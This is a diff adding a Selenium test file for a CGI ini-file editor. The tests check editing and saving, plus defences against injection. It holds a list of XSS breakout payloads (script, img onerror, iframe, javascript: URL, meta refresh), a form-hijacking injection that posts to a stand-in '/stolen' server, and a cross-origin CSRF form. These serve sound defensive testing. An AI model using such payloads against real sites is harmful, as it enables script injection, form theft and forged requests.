@@ -1,0 +1,175 @@
+"""A person with Chromium edits an ini file; then files and pages attack. A second server is the
+place where nothing may be fetched from or sent to."""
+import contextlib
+import http.server
+import re
+import threading
+import urllib.request
+
+from selenium import webdriver
+from selenium.common.exceptions import TimeoutException, WebDriverException
+from selenium.webdriver.chrome.service import Service
+from selenium.webdriver.common.keys import Keys
+from selenium.webdriver.support.expected_conditions import alert_is_present
+from selenium.webdriver.support.wait import WebDriverWait
+
+from program import ROOT, form
+from staging import StagedTest, served
+
+OPTIONS = '--headless --no-sandbox --disable-gpu --no-first-run --disable-background-networking'
+PHONE = {'width': 390, 'height': 844, 'deviceScaleFactor': 1, 'mobile': True}
+FILE = 'NZIGwContext None #None or All\nNZIGwQueue GATE.IN #requests\n' + 'Z' * 99 + ' z #\n'
+PLANT = {'dnzhidefile': 'dnz.ini', 'dnzINIsave': 'dnz.ini', 'dnzSave': 'save', 'dnzNumPairs': '0',
+         'dnzNewName': 'Planted'}
+
+# Each breaks out of its field; %s is the other server. A refresh and a dialog come after the rest.
+MARKUP = '''A x #"><script>fetch("%s/script")</script>
+B x #"><img src=%s/image onerror='fetch("%s/handler")'>
+C x #"><iframe src=%s/frame></iframe>
+D x #"><link rel=stylesheet href=%s/style><script src=%s/fetched></script>
+E x #" autofocus onfocus='fetch("%s/focus")' x="
+F x #"><iframe src='javascript:fetch("%s/address")'></iframe>
+G x #"><meta http-equiv=refresh content="1;url=%s/refresh">
+H x #"><script>setTimeout(alert, 500)</script>
+'''
+FETCHED = set(re.findall(r'%s(/\w+)', MARKUP))
+STOLEN = 'A x #"></table></form><form method=post action=%s/stolen>\n'
+
+
+class Elsewhere(http.server.BaseHTTPRequestHandler):
+    """Another origin, which knows pages and remembers what it was asked for."""
+    pages, asked = {}, set()
+
+    def answer(self):
+        self.asked.add(self.path)
+        self.send_response(200)
+        self.send_header('Content-Type', 'text/html; charset=utf-8')
+        self.end_headers()
+        self.wfile.write(self.pages.get(self.path, '').encode())
+
+    do_GET = do_POST = answer
+    log_message = lambda *_: None
+
+
+class Browser(StagedTest):
+    @classmethod
+    def setUpClass(cls):
+        super().setUpClass()
+        address = cls.enterClassContext(served(ROOT, cls.folder))
+        cls.entry, cls.program = address + '/dnzgate/', address + '/cgi-bin/dnzcnf'
+        options = webdriver.ChromeOptions()
+        for option in OPTIONS.split():
+            options.add_argument(option)
+        cls.browser = cls.enterClassContext(
+            webdriver.Chrome(options=options, service=Service('/usr/bin/chromedriver')))
+        cls.browser.execute_cdp_cmd('Emulation.setDeviceMetricsOverride', PHONE)
+        server = http.server.ThreadingHTTPServer(('127.0.0.1', 0), Elsewhere)
+        cls.enterClassContext(server)
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        cls.addClassCleanup(server.shutdown)
+        cls.elsewhere = f'http://127.0.0.1:{server.server_port}'
+
+    def open(self, contents):
+        """Opens a file, with an eye on what is fetched then."""
+        self.ini.write_text(contents.replace('%s', self.elsewhere), 'utf-8')
+        self.browser.get(self.entry)
+        Elsewhere.asked.clear()
+        self.press('dnz.ini')
+
+    def post(self, **fields):
+        with urllib.request.urlopen(self.program, form(fields)) as answer:
+            return answer.read().decode()
+
+    def show_elsewhere(self, page, address=None):
+        Elsewhere.pages['/page'] = page
+        Elsewhere.asked.clear()
+        self.browser.get((address or self.elsewhere) + '/page')
+
+    def show_uncontained(self):
+        """The form of the file without the policy: its markup does what it is to do."""
+        self.show_elsewhere(self.post(dnzcnf='open', dnzINIfile='dnz.ini'))
+
+    def field(self, name):
+        return self.browser.find_element('name', name)
+
+    def fill(self, **texts):
+        for name, text in texts.items():
+            self.field(name).clear()
+            self.field(name).send_keys(text)
+
+    def wait(self, condition, seconds=20):
+        # Between two pages the driver may know neither.
+        return WebDriverWait(self.browser, seconds, 0.05, [WebDriverException]).until(condition)
+
+    @contextlib.contextmanager
+    def next_page(self):
+        self.browser.execute_script('document.left = true')
+        yield
+        self.wait(lambda browser: browser.execute_script(
+            'return !document.left && document.readyState == "complete"'))
+
+    def press(self, label):
+        with self.next_page():
+            self.browser.find_element('xpath', f'//button[.="{label}"]').click()
+
+    def test_edit_is_refused_then_saved_then_discarded(self):
+        self.open(FILE)
+        width = self.browser.execute_script('return document.documentElement.scrollWidth')
+        self.assertEqual(width, PHONE['width'])
+        self.fill(v0='aLL', v1='GATE-IN', d1='Aufträge, 50% "neu" & <b>', dnzNewName='Extra')
+        self.field('e2').click()
+        self.press('Save')
+        self.assertIn('Entry NZIGwQueue, value "GATE-IN"', self.browser.page_source)
+        self.assertEqual(self.ini.read_text(), FILE)
+        with self.next_page():
+            self.browser.back()
+        self.fill(v1='GATE.NEW')
+        with self.next_page():
+            self.field('v1').send_keys(Keys.ENTER)
+        saved = 'Extra\nNZIGwContext All #None or All\nNZIGwQueue GATE.NEW #Aufträge, 50% "neu" & <b>\n'
+        self.assertEqual(self.ini.read_text('utf-8'), saved)
+        self.fill(v2='LOST')
+        self.press('Discard changes')
+        self.assertEqual(self.field('v2').get_attribute('value'), 'GATE.NEW')
+        self.assertEqual(self.ini.read_text('utf-8'), saved)
+
+    def test_markup_in_values_fetches_and_runs_nothing_and_the_form_saves(self):
+        self.open(MARKUP + FILE)
+        with self.assertRaises(TimeoutException):
+            self.wait(lambda browser: Elsewhere.asked or alert_is_present()(browser), 2)
+        self.fill(v9='GATE.NEW')
+        self.press('Save')
+        self.assertIn('NZIGwQueue GATE.NEW #requests\n', self.ini.read_text())
+        self.assertEqual(Elsewhere.asked, set())
+
+        self.ini.write_text(MARKUP.replace('%s', self.elsewhere))
+        self.show_uncontained()
+        self.wait(alert_is_present()).accept()
+        self.wait(lambda _: Elsewhere.asked >= FETCHED)
+
+    def test_markup_takes_no_form_elsewhere(self):
+        self.open(STOLEN)
+        self.browser.find_element('name', 'dnzSave').click()
+        with self.assertRaises(TimeoutException):
+            self.wait(lambda _: Elsewhere.asked, 0.5)
+        self.show_uncontained()
+        self.press('Save')
+        self.assertIn('/stolen', Elsewhere.asked)
+
+    def test_other_origins_neither_post_nor_frame(self):
+        self.open(FILE)
+        inputs = ''.join(f'<input name={name} value={value}>' for name, value in PLANT.items())
+        for origin in self.elsewhere, self.elsewhere.replace('127.0.0.1', 'localhost'):
+            self.show_elsewhere(f'<form method=post action={self.program}>{inputs}'
+                                '<button>Save</button></form>', origin)
+            self.press('Save')
+            self.assertIn('403', self.browser.page_source)
+            self.assertEqual(self.ini.read_text(), FILE)
+        self.post(**PLANT)
+        self.assertIn('Planted', self.ini.read_text())
+
+        Elsewhere.pages['/form'] = '<form></form>'
+        for framed, forms in (self.entry, 0), (self.elsewhere + '/form', 1):
+            self.show_elsewhere(f'<iframe src={framed}></iframe>')
+            self.browser.switch_to.frame(0)
+            self.assertEqual(len(self.browser.find_elements('tag name', 'form')), forms)
